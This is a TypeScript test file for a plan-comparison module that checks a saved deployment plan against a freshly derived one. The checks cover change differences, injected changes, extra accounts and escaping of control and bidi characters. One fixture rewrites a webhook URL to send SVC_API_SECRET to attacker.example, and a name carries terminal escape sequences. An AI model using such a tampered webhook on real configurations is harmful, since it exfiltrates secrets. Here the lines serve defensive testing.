// planDifferences: a saved plan against the plan derived again. Equal sets of equal changes pass;
// anything else is named by change and member, never with a value from the file.

import { describe, expect, it } from 'vitest';
import { differingPointers, planDifferences } from '../../src/plan/saved/plan-compare.js';
import { type Change, type Plan, PLAN_FORMAT_VERSION } from '../../src/model/plan.js';

function change(name: string, over: Partial<Change> = {}): Change {
  return {
    key: `prod/AlertChannel/${name}`,
    action: 'update',
    kind: 'AlertChannel',
    account: 'prod',
    name,
    liveId: `PROD_${name}`,
    after: { type: 'Webhook', data: { webhookUrl: { $env: '${env:HOOK_URL}' } } },
    writeOnly: [],
    sensitive: [],
    dependsOn: [],
    liveDigest: `digest-${name}`,
    ...over,
  };
}

function planOf(changes: Change[]): Plan {
  return {
    formatVersion: PLAN_FORMAT_VERSION,
    accounts: [{ name: 'prod', orgAccess: false }],
    changes,
    summary: { create: 0, update: changes.length, replace: 0, delete: 0, unmanaged: 0 },
    unmanaged: [],
    diagnostics: [],
    apiCalls: { total: 0, byBucket: {} },
    budget: [],
  };
}

const derived = planOf([change('a'), change('b')]);

describe('planDifferences', () => {
  it('none for the same changes, whatever their order, their source positions or their audit entries', () => {
    const saved = planOf([change('b', { source: { file: '/elsewhere/channels.yaml', line: 9, column: 1 } }), change('a', { audit: [] })]);
    expect(planDifferences(saved, derived)).toEqual([]);
  });

  it('names a value changed by pointer, never with the value', () => {
    const edited = change('a', { after: { type: 'Webhook', data: { webhookUrl: { $env: 'https://attacker.example/?k=${env:SVC_API_SECRET}' } } } });
    const out = planDifferences(planOf([edited, change('b')]), derived);
    expect(out).toEqual(['update "prod/AlertChannel/a": after differs at /data/webhookUrl/$env']);
    expect(out.join('\n')).not.toContain('SVC_API_SECRET');
  });

  it('names another action, another id, another name', () => {
    expect(planDifferences(planOf([change('a', { action: 'delete' }), change('b', { liveId: 'PROD_x', name: 'bee' })]), derived)).toEqual([
      'update "prod/AlertChannel/a": action is "delete" in the saved plan, "update" when derived again',
      'update "prod/AlertChannel/b": name is "bee" in the saved plan, "b" when derived again',
      'update "prod/AlertChannel/b": liveId is "PROD_x" in the saved plan, "PROD_b" when derived again',
    ]);
  });

  it('a change added to the file and one left out of it: both named (the sets must be equal)', () => {
    const out = planDifferences(planOf([change('a'), change('evil', { action: 'delete' })]), derived);
    expect(out).toEqual([
      'delete "prod/AlertChannel/evil": in the saved plan, but the repository and the live state ask for no such change',
      'update "prod/AlertChannel/b": the repository and the live state ask for it, but the saved plan does not hold it',
    ]);
  });

  it('a member only one side has, and an account the repository does not declare as the plan says', () => {
    const saved = planOf([change('a', { rotate: true }), change('b')]);
    saved.accounts = [{ name: 'prod', orgAccess: true }, { name: 'shadow', orgAccess: false }];
    expect(planDifferences(saved, derived)).toEqual([
      'account "prod": its settings in the saved plan differ from the repository\'s (/orgAccess)',
      'account "shadow" is in the saved plan, but the repository does not declare it',
      'update "prod/AlertChannel/a": rotate differs (not in the derived plan)',
    ]);
  });

  it('quotes names, so control characters, bidi overrides and zero-width characters in an edited file stay escaped', () => {
    const out = planDifferences(planOf([change('a'), change('b'), change('x\u001b]8;;evil\u0007\nline\u202e\u200b\u009b"q')]), derived);
    expect(out).toEqual(['update "prod/AlertChannel/x\\x1b]8;;evil\\x07\\nline\\u202e\\u200b\\x9b\\"q": in the saved plan, but the repository and the live state ask for no such change']);
  });
});

describe('differingPointers', () => {
  it('lists the pointers where two JSON values differ, escaping ~ and /', () => {
    expect(differingPointers({ a: 1, b: [1, 2], 'c/d': { '~': 1 } }, { a: 1, b: [1, 3], 'c/d': { '~': 2 } })).toEqual(['/b/1', '/c~1d/~0']);
    expect(differingPointers([1], [1, 2])).toEqual(['']);
    expect(differingPointers({ a: 1 }, { a: 1 })).toEqual([]);
    expect(differingPointers(1, '1')).toEqual(['']);
  });
});

const diff = (saved: Partial<Change>): string[] => planDifferences(planOf([change('a', saved)]), planOf([change('a')]));
const WHERE = 'update "prod/AlertChannel/a"';

// At the edges: values of different shapes always differ (never a crash, never "equal"), and each
// message form names the member exactly.
describe('differingPointers: values of different shapes differ as a whole', () => {
  it('a list against a string of the same length', () => {
    expect(differingPointers(['x'], 'x')).toEqual(['']);
  });
  it('an object against null or a list', () => {
    expect(differingPointers({ a: 1 }, null)).toEqual(['']);
    expect(differingPointers({}, [])).toEqual(['']);
  });
  it('two different strings or numbers', () => {
    expect(differingPointers('a', 'b')).toEqual(['']);
    expect(differingPointers(1, 2)).toEqual(['']);
  });
});

describe('planDifferences: each message form', () => {
  it('a changed account or name is shown with both values', () => {
    expect(diff({ account: 'dev' })).toEqual([`${WHERE}: account is "dev" in the saved plan, "prod" when derived again`]);
    expect(diff({ name: 'b' })).toEqual([`${WHERE}: name is "b" in the saved plan, "a" when derived again`]);
    expect(diff({ kind: 'Other' })).toEqual([`${WHERE}: kind is "Other" in the saved plan, "AlertChannel" when derived again`]);
  });

  it('a shown name has its controls escaped as the terminal shows them (\\x01), not as JSON would (\\u0001)', () => {
    expect(diff({ name: 'b\x01' })).toEqual([`${WHERE}: name is "b\\x01" in the saved plan, "a" when derived again`]);
  });

  it('an identity member absent, or not a string, is shown as absent or as JSON', () => {
    const { liveId: _, ...noLiveId } = change('a');
    expect(planDifferences(planOf([noLiveId as Change]), planOf([change('a')]))).toEqual([
      `${WHERE}: liveId is absent in the saved plan, "PROD_a" when derived again`,
    ]);
    expect(diff({ account: 7 as unknown as string })).toEqual([`${WHERE}: account is 7 in the saved plan, "prod" when derived again`]);
  });

  it('a member missing from one side, or of another shape, is named without its value', () => {
    expect(diff({ replaces: 'x' } as Partial<Change>)).toEqual([`${WHERE}: replaces differs (not in the derived plan)`]);
    const { after: _, ...noAfter } = change('a');
    expect(planDifferences(planOf([noAfter as Change]), planOf([change('a')]))).toEqual([`${WHERE}: after differs (missing from the saved plan)`]);
    expect(diff({ after: 'x' as never })).toEqual([`${WHERE}: after differs`]);
  });

  it('pointers are listed up to 5, the rest counted', () => {
    const data = (v: number) => ({ type: 'Webhook', data: { a: v, b: v, c: v, d: v, e: v, f: v, g: v } });
    expect(planDifferences(planOf([change('a', { after: data(2) })]), planOf([change('a', { after: data(1) })]))).toEqual([`${WHERE}: after differs at /data/a, /data/b, /data/c, /data/d, /data/e (and 2 more)`]);
    const five = { type: 'Webhook', data: { a: 2, b: 2, c: 2, d: 2, e: 2 } };
    expect(planDifferences(planOf([change('a', { after: five })]), planOf([change('a', { after: { type: 'Webhook', data: { a: 1, b: 1, c: 1, d: 1, e: 1 } } })]))).toEqual([
      `${WHERE}: after differs at /data/a, /data/b, /data/c, /data/d, /data/e`,
    ]);
  });

  it("an account whose settings differ from the repository's names each differing setting", () => {
    const saved = { ...planOf([]), accounts: [{ name: 'prod', orgAccess: true, extra: 1 } as Plan['accounts'][number]] };
    expect(planDifferences(saved, planOf([]))).toEqual([
      `account "prod": its settings in the saved plan differ from the repository's (/orgAccess, /extra)`,
    ]);
  });
});
